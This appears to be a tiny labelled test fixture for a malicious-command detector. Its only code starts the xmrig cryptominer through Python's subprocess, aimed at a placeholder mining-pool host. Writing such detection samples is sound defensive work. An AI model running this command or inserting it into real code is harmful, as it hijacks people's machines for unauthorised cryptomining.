# expect: malicious-command
import subprocess

subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.minexmr.invalid:4444", "--donate-level", "1"])
